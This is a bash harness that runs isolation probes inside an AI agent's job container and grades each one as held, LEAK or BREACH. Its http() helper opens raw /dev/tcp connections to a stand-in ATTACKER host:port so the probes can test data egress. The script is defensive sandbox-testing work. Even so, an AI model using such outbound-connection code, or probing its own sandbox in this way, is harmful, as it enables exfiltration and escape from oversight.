#!/usr/bin/env bash
# Hostile code in an agent's container: many probes, one line each: PROBE|<name>|<held, LEAK or BREACH>|<what it tried>|<what it saw>.
# It tells what it found, never a credential's bytes.
#   run.sh ATTACKER NODE   all of them; ATTACKER is host:port of a server of the attacker's, NODE the node's address
#   run.sh one NAME        one of them
# shellcheck disable=SC2034
set -u
[ -d /claudejob ] || {
  echo "refused: this is not the Pod of a job"
  exit 1
}
here=$(dirname "$0")
names=() # in the order of their definition
declare -A tries
probe() { names+=("$1") && tries[$1]=$2; }
note() { echo "NOTE $*"; }
breach() {
  echo "BREACH $*"
  exit 3
}

# host, port, request with backslash escapes: the answer's bytes, for as long as $limit
limit=4
http() {
  # shellcheck disable=SC2016
  timeout "$limit" bash -c 'exec 3<>"/dev/tcp/$0/$1" && printf "%b" "$2" >&3 && cat <&3' "$1" "$2" "${3//@@/$ATTACKER}" 2>&1
}
code() { sed -n '1s|^HTTP/1.[01] \([0-9]*\).*|\1|p'; }

# shellcheck source=/dev/null
for file in processes files node helper; do . "$here/$file.sh"; done

one() {
  local out rc spelled verdict=held saw
  out=$(mktemp)
  timeout 150 bash "$0" call "$1" >"$out" 2>&1 </dev/null
  rc=$?
  spelled=$(perl "$here/leaks.pl" <"$out" | paste -sd, -)
  saw=$(sed -n 's/^NOTE //p' "$out" | head -1)
  if [ -n "$spelled" ]; then
    verdict=LEAK saw=$spelled
  elif grep -qa '^LEAK ' "$out"; then
    verdict=LEAK saw=$(grep -a '^LEAK ' "$out" | head -3 | paste -sd';' -)
  elif [ "$rc" = 3 ] || grep -qa '^BREACH' "$out"; then
    verdict=BREACH saw=$(grep -a '^BREACH' "$out" | head -1)
  elif [ "$rc" = 124 ]; then
    verdict=BREACH saw="no end within 150 s"
  fi
  rm -f "$out"
  printf 'PROBE|%s|%s|%s|%s\n' "$1" "$verdict" "${tries[$1]}" "$(tr -cd '[:print:]' <<<"$saw" | tr '|' '/' | cut -c1-160)"
}

case ${1-} in
  one) one "$2" ;;
  call) "$2" ;;
  *)
    export ATTACKER=${1:?} NODE=${2:?}
    perl "$here/leaks.pl" --self-test
    printf '%s\n' "${names[@]}" | xargs -P 5 -n 1 bash "$0" one
    echo PROBED
    ;;
esac
